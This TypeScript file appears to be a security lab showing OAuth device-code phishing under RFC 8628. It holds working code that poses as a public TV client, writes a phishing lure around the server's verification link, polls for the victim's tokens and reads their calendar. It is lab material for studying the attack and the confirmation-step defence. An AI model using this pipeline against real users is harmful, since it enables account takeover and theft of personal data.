/**
 * Security lab: device-code phishing, with and without the server's confirmation step.
 *
 * The attacker holds a device of their own, or only a script that acts like
 * one: it starts the Device Authorization Grant as "Acme TV", a public client
 * whose client_id anyone can send. The server answers with a user code and a
 * link that carries it (`verification_uri_complete`). The attacker sends that
 * link to the victim with a convincing reason to open it, and polls the token
 * endpoint. The link leads to the real authorization server: the victim signs
 * in on the real page, and nothing in the address looks wrong.
 *
 * Without a confirmation the victim's approval goes to the attacker's device,
 * which gets the victim's tokens and reads their calendar. With it, the server
 * names the client and the code and asks whether the victim started this on a
 * device in front of them; a victim who reads it and answers "No" denies the
 * request, and the attacker's poll gets `access_denied`.
 *
 * @see RFC 8628 §5.4 (remote phishing), §3.3.1 (verification_uri_complete)
 * @see RFC 8628 §3.1-3.5 (the requests the attacker's device sends)
 */
import * as oauth from 'oauth4webapi';

/** What the attacker's device needs: the server, the public client_id it poses as, what it asks for. */
export interface LabConfig {
  issuer: string;
  /** The TV app's client_id. Public (RFC 6749 §2.1): the attacker's script can send it too. */
  clientId: string;
  scope: string;
  /** Identifier of the API the access token is for (RFC 8707 `resource`). */
  audience: string;
  fetch?: (url: string, init: RequestInit) => Promise<Response>;
  /** Allow plain-HTTP requests to an authorization server on this machine only. */
  allowInsecureRequests?: boolean;
}

/** The server's answer to one poll (RFC 8628 §3.5): tokens, keep waiting, slow down, or stop. */
export type PollAnswer =
  | {kind: 'tokens'; tokens: oauth.TokenEndpointResponse}
  | {kind: 'authorization_pending' | 'slow_down'}
  | {kind: 'refused'; status: number; error: string; error_description?: string};

/** The message the victim receives: who it claims to be from, and the link it wants opened. */
export interface Lure {
  from: string;
  subject: string;
  body: string;
  link: string;
}

const client = (config: LabConfig): oauth.Client => ({client_id: config.clientId, token_endpoint_auth_method: 'none'});

function httpOptions(config: LabConfig): oauth.HttpRequestOptions<string, oauth.ProtectedResourceRequestBody> {
  const options: oauth.HttpRequestOptions<string, oauth.ProtectedResourceRequestBody> = {};
  // oauth4webapi refuses http: URLs unless told otherwise (RFC 6749 §3.1 and §3.2 require TLS).
  if (config.allowInsecureRequests) options[oauth.allowInsecureRequests] = true;
  const customFetch = config.fetch;
  // oauth4webapi's request options are fetch()'s RequestInit in all but their TypeScript name.
  if (customFetch) options[oauth.customFetch] = (url, init) => customFetch(url, init as RequestInit);
  return options;
}

/** Fetches the authorization server's metadata (RFC 8414 §3), which names its device_authorization_endpoint. */
export async function discover(config: LabConfig): Promise<oauth.AuthorizationServer> {
  const issuer = new URL(config.issuer);
  return oauth.processDiscoveryResponse(issuer, await oauth.discoveryRequest(issuer, httpOptions(config)));
}

/**
 * The attacker's device asks for a code, exactly as the real TV app would: nothing in the request
 * says who holds the device (RFC 8628 §3.1, the answer §3.2).
 */
export async function startDeviceFlow(
  as: oauth.AuthorizationServer,
  config: LabConfig,
): Promise<oauth.DeviceAuthorizationResponse> {
  const parameters = new URLSearchParams({scope: config.scope, resource: config.audience});
  const response = await oauth.deviceAuthorizationRequest(
    as,
    client(config),
    oauth.None(),
    parameters,
    httpOptions(config),
  );
  return oauth.processDeviceAuthorizationResponse(as, client(config), response);
}

/**
 * The attacker's message. The link is the server's own `verification_uri_complete`: the code rides
 * in it, so the victim types nothing and never compares a code with a screen (RFC 8628 §5.4).
 */
export function writeLure(authorization: oauth.DeviceAuthorizationResponse, brand: string): Lure {
  const link = authorization.verification_uri_complete ?? authorization.verification_uri;
  const minutes = Math.floor(authorization.expires_in / 60);
  return {
    from: `${brand} <billing@acme-tv.example>`,
    subject: `${brand}: your subscription is paused`,
    body: `We could not confirm your subscription, so ${brand} has paused it on your devices. Sign in within ${minutes} minutes to keep watching: ${link}`,
    link,
  };
}

/** One poll of the token endpoint with the device code (RFC 8628 §3.4), its answer read as §3.5 says. */
export async function poll(as: oauth.AuthorizationServer, config: LabConfig, deviceCode: string): Promise<PollAnswer> {
  const response = await oauth.deviceCodeGrantRequest(
    as,
    client(config),
    oauth.None(),
    deviceCode,
    httpOptions(config),
  );
  try {
    return {kind: 'tokens', tokens: await oauth.processDeviceCodeResponse(as, client(config), response)};
  } catch (error) {
    if (!(error instanceof oauth.ResponseBodyError)) throw error;
    if (error.error === 'authorization_pending' || error.error === 'slow_down') return {kind: error.error};
    return {
      kind: 'refused',
      status: error.status,
      error: error.error,
      ...(error.error_description ? {error_description: error.error_description} : {}),
    };
  }
}

/** One poll and its answer: `tokens`, or the error code the server sent (RFC 8628 §3.5). */
export interface PollRecord {
  /** 1 for the first poll. */
  attempt: number;
  /** When it was sent (milliseconds since the epoch). */
  sentAt: number;
  answer: string;
  /** Seconds the device waits before its next poll, when there is one. */
  nextInterval?: number;
}

/** Waits `milliseconds`, or rejects as soon as `signal` is aborted. */
function sleep(milliseconds: number, signal?: AbortSignal): Promise<void> {
  return new Promise((resolve, reject) => {
    signal?.throwIfAborted();
    const timer = setTimeout(() => {
      signal?.removeEventListener('abort', stop);
      resolve();
    }, milliseconds);
    const stop = () => {
      clearTimeout(timer);
      reject(signal!.reason as Error);
    };
    signal?.addEventListener('abort', stop, {once: true});
  });
}

/**
 * The attacker's device polls until the server answers for good: tokens, or `access_denied` or
 * `expired_token`, which end the wait. The first poll goes out at once, then one every `interval`
 * seconds (5 when the server gave none), 5 seconds more after each `slow_down` (RFC 8628 §3.5).
 * `onPoll` sees each answer as it comes.
 */
export async function pollUntilAnswered(
  as: oauth.AuthorizationServer,
  config: LabConfig,
  authorization: Pick<oauth.DeviceAuthorizationResponse, 'device_code' | 'interval'>,
  options: {
    onPoll?: (poll: PollRecord) => void;
    wait?: (milliseconds: number, signal?: AbortSignal) => Promise<void>;
    signal?: AbortSignal;
  } = {},
): Promise<PollAnswer> {
  const {onPoll, wait = sleep, signal} = options;
  let interval = authorization.interval ?? 5;
  for (let attempt = 1; ; attempt++) {
    signal?.throwIfAborted();
    const sentAt = Date.now();
    const answer = await poll(as, config, authorization.device_code);
    const name = answer.kind === 'refused' ? answer.error : answer.kind;
    // Past expires_in the server answers expired_token, which ends the wait like access_denied.
    if (answer.kind !== 'authorization_pending' && answer.kind !== 'slow_down') {
      onPoll?.({attempt, sentAt, answer: name});
      return answer;
    }
    if (answer.kind === 'slow_down') interval += 5;
    onPoll?.({attempt, sentAt, answer: name, nextInterval: interval});
    await wait(interval * 1000, signal);
  }
}

/** The attacker reads the victim's calendar with the access token its device got (RFC 6750 §2.1). */
export async function readCalendar(
  url: string,
  accessToken: string,
  config: LabConfig,
): Promise<{status: number; sub?: string; events?: number}> {
  const response = await oauth.protectedResourceRequest(
    accessToken,
    'GET',
    new URL(url),
    new Headers({accept: 'application/json'}),
    null,
    httpOptions(config),
  );
  const body = (await response.json().catch(() => null)) as {caller?: {sub?: string}; events?: unknown[]} | null;
  return {
    status: response.status,
    ...(body?.caller?.sub ? {sub: body.caller.sub} : {}),
    ...(Array.isArray(body?.events) ? {events: body.events.length} : {}),
  };
}
